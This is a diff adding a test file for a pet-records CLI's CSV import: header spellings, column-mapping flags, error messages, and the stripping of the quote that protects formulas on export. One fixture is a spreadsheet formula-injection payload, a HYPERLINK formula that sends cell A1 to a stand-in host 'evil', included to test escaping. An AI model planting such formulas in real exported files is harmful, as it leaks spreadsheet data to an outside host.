@@ -1,0 +1,178 @@
+import { describe, expect, it } from 'vitest';
+import { type InputFormat, type InputRow, InvalidInputError, type ReadOptions, readRows } from '../../src/bulk/reader';
+import { headerField, spellings } from '../../src/bulk/formats/columns';
+import { UsageError } from '../../src/errors';
+
+/**
+ * Which CSV column fills which field (src/bulk/formats/columns.ts, csv.ts): headers as people and
+ * spreadsheets write them, --column for any other, what a header that lacks a field is told,
+ * and the `'` that -o csv puts before a formula's first character, dropped on the way back in.
+ */
+
+async function read(text: string, options: ReadOptions = {}, format?: InputFormat): Promise<InputRow[]> {
+  async function* chunks() {
+    yield Buffer.from(text);
+  }
+  const out: InputRow[] = [];
+  for await (const row of readRows(chunks(), format, undefined, options)) out.push(row);
+  return out;
+}
+
+async function refusal(text: string, options: ReadOptions = {}): Promise<string> {
+  const error: unknown = await read(text, options).then(
+    () => undefined,
+    (caught: unknown) => caught,
+  );
+  expect(error).toBeInstanceOf(InvalidInputError);
+  expect((error as InvalidInputError).exitCode).toBe(6);
+  expect((error as InvalidInputError).code).toBe('invalid_input');
+  return (error as InvalidInputError).message;
+}
+
+const pets = (rows: InputRow[]) => rows.map((row) => row.newPet ?? row.reason);
+
+describe('headers as people write them', () => {
+  it('`Name,Category Id,Status` and every other spelling fill name, categoryId and status', async () => {
+    const headers = [
+      'Name,Category Id,Status',
+      'NAME,CATEGORY ID,STATUS',
+      'name,category_id,status',
+      'name,category-id,status',
+      'Name,CategoryId,Status',
+      ' name , Category  ID ,  status',
+      'Na_me,CATEGORY_ID,Sta-tus',
+      'name,Category - Id,status',
+    ];
+    for (const header of headers) {
+      expect(pets(await read(`${header}\nRex,3,Available\n`)), header).toEqual([{ name: 'Rex', categoryId: 3, status: 'available' }]);
+    }
+  });
+
+  it('Excel\'s `Category Id` beside an id column and columns that are not sent', async () => {
+    const ignored: string[] = [];
+    const rows = await read('Intake No,Name,Category Id,Status,Breed\nA-1,Rex,3,pending,Lab\n', { idColumn: 'Intake No', onIgnored: (name) => ignored.push(name) });
+    expect(rows).toEqual([{ row: 1, line: 2, newPet: { name: 'Rex', categoryId: 3, status: 'pending' }, rowId: 'A-1' }]);
+    expect(ignored).toEqual(['Breed']);
+  });
+
+  it('two headers for one field refuse the file, name both, and say how to choose', async () => {
+    expect(await refusal('Name,Category Id,category_id\nRex,1,2\n')).toBe(
+      'line 1: column categoryId appears twice in the CSV header ("Category Id", "category_id"); choose one with --column categoryId="<header>"',
+    );
+  });
+});
+
+describe('a header that lacks a field: what it would accept', () => {
+  it('lists the spellings taken for the missing field, the --column flag, and the file\'s columns', async () => {
+    expect(await refusal('Animal,Category,Status\nRex,1,sold\n')).toBe(
+      'line 1: the CSV header lacks name and categoryId; expected name,categoryId,status; accepted for name: name, Name, NAME; for categoryId: categoryId, category_id, category-id, Category Id, CATEGORY ID (case, spaces, _ and - do not matter), or any other header with --column name="<header>" --column categoryId="<header>"; its columns: Animal,Category,Status',
+    );
+    expect(await refusal('name,Category,status\nRex,1,sold\n')).toBe(
+      'line 1: the CSV header lacks categoryId; expected name,categoryId,status; accepted for categoryId: categoryId, category_id, category-id, Category Id, CATEGORY ID (case, spaces, _ and - do not matter), or any other header with --column categoryId="<header>"; its columns: name,Category,status',
+    );
+  });
+
+  it('every spelling the message offers is one the header takes', async () => {
+    for (const field of ['name', 'categoryId', 'status'] as const) {
+      for (const spelling of spellings(field)) {
+        const header = ['name', 'categoryId', 'status'].map((other) => (other === field ? spelling : other)).join(',');
+        expect(pets(await read(`${header}\nRex,1,sold\n`)), header).toEqual([{ name: 'Rex', categoryId: 1, status: 'sold' }]);
+      }
+    }
+  });
+
+  it('a header of one column still says to try --delimiter', async () => {
+    expect(await refusal('name|categoryId\nRex|1\n')).toMatch(/^line 1: the CSV header lacks name and categoryId; expected name,categoryId,status; if its columns are separated by another character, give it with --delimiter; accepted for name: /);
+  });
+});
+
+describe('--column field=header', () => {
+  it('maps any header to a field; repeated, for several fields', async () => {
+    const options: ReadOptions = { columns: [{ field: 'name', header: 'Animal' }, { field: 'status', header: 'State' }, { field: 'categoryId', header: 'Category' }] };
+    expect(pets(await read('Animal,Category,State\nRex,7,Sold\n', options))).toEqual([{ name: 'Rex', categoryId: 7, status: 'sold' }]);
+  });
+
+  it('the header is matched as written, trimmed, in any case; a header that would match the field loosely is then ignored', async () => {
+    const ignored: string[] = [];
+    const options: ReadOptions = { columns: [{ field: 'name', header: ' animal name ' }], onIgnored: (name) => ignored.push(name) };
+    expect(pets(await read('Name,Animal Name,categoryId\nMs Smith,Rex,1\n', options))).toEqual([{ name: 'Rex', categoryId: 1 }]);
+    expect(ignored).toEqual(['Name']);
+    // As written: `Animal_Name` is another header than `Animal Name`.
+    expect(await refusal('Animal_Name,categoryId\nRex,1\n', { columns: [{ field: 'name', header: 'Animal Name' }] })).toBe(
+      'line 1: the CSV header has no column "Animal Name" (--column name=Animal Name); its columns: Animal_Name,categoryId',
+    );
+  });
+
+  it('a header whose field --column gives another header may be the --id-column', async () => {
+    const options: ReadOptions = { columns: [{ field: 'name', header: 'Animal' }], idColumn: 'name' };
+    expect(await read('Name,Animal,categoryId\nA-1,Rex,1\n', options)).toEqual([{ row: 1, line: 2, newPet: { name: 'Rex', categoryId: 1 }, rowId: 'A-1' }]);
+    expect(headerField('name', options.columns)).toBeUndefined();
+    expect(headerField('Category Id', options.columns)).toBe('categoryId');
+    expect(headerField('animal', options.columns)).toBe('name');
+  });
+
+  it('a header the file lacks refuses it, naming the header and listing the file\'s', async () => {
+    expect(await refusal('Name,Cat,Status\nRex,1,sold\n', { columns: [{ field: 'categoryId', header: 'Category' }] })).toBe(
+      'line 1: the CSV header has no column "Category" (--column categoryId=Category); its columns: Name,Cat,Status',
+    );
+  });
+
+  it('a header the file has twice refuses it', async () => {
+    expect(await refusal('Animal,animal,categoryId\nRex,Bo,1\n', { columns: [{ field: 'name', header: 'Animal' }] })).toBe(
+      'line 1: the column "Animal" (--column name=Animal) appears twice in the CSV header',
+    );
+  });
+
+  it('applies to CSV only: JSON or NDJSON input with --column is a usage error; JSON fields are matched by their exact names', async () => {
+    const rows = await read('{"Name":"Rex","category_id":1}\n', {}, 'ndjson');
+    expect(rows[0]!.reason).toBe('name: required; categoryId: required');
+    for (const [text, format] of [['[{"name":"Rex","categoryId":1}]', 'json'], ['{"name":"Rex","categoryId":1}\n', 'ndjson']] as const) {
+      const error: unknown = await read(text, { columns: [{ field: 'name', header: 'Animal' }] }).catch((caught: unknown) => caught);
+      expect(error).toBeInstanceOf(UsageError);
+      expect((error as UsageError).message).toBe(`--column applies to CSV headers, not ${format} input`);
+    }
+  });
+});
+
+describe('cells stay text: the `\'` -o csv writes before a formula is dropped on import', () => {
+  it('before =, +, -, @, a tab or a CR, and nowhere else', async () => {
+    const csv = [
+      'name,categoryId,status',
+      `"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",1,`,
+      "'-2+3,1,",
+      "'+1,1,",
+      "'@SUM(1+1),1,",
+      '"\'\t=1",1,',
+      '"\'\r=1",1,',
+      "'Tis,1,",
+      "''=x,1,",
+      "=plain,1,",
+      "x'=y,1,",
+      "'',1,",
+    ].join('\n');
+    expect((await read(csv)).map((row) => row.newPet?.name ?? row.reason)).toEqual([
+      '=HYPERLINK("http://evil/?x="&A1,"click")',
+      '-2+3',
+      '+1',
+      '@SUM(1+1)',
+      // The tab and the CR then go as a name's other surrounding whitespace does: the schema trims names.
+      '=1',
+      '=1',
+      "'Tis",
+      "''=x",
+      '=plain',
+      "x'=y",
+      "''",
+    ]);
+    // JSON carries the exact value.
+    expect((await read('[{"name":"\'=x","categoryId":1}]')).map((row) => row.newPet?.name)).toEqual(["'=x"]);
+  });
+
+  it('in every column read: a status, a category id and the --id-column', async () => {
+    const rows = await read("Intake,name,categoryId,status\n'-7,Rex,'-5,'=sold\n", { idColumn: 'Intake' });
+    expect(rows[0]!.rowId).toBe('-7');
+    expect(rows[0]!.reason).toBe('status must be one of available, pending, sold, not "=sold"');
+    const category = await read("name,categoryId\nRex,'-5\n");
+    expect(category[0]!.newPet).toEqual({ name: 'Rex', categoryId: -5 });
+  });
+});
